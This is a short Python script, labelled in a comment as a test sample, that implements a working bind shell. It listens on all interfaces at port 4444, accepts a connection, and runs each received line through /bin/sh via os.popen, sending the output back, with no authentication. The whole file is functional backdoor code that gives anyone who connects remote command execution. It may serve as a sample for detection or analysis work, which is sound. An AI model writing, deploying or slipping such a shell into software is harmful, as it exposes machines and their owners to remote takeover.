#!/usr/bin/env python3
# test sample: a bind shell whose commands reach the shell through its own helper
import os
import socket

SH = "/bin/sh -c"


def runit(line):
    out = os.popen(SH + " '" + line + "' 2>&1").read()
    return out


srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
srv.bind(("0.0.0.0", 4444))
srv.listen(1)
conn, _ = srv.accept()
while True:
    raw = conn.recv(2048)
    if not raw:
        break
    text = raw.decode(errors="ignore").strip()
    conn.sendall(runit(text).encode())
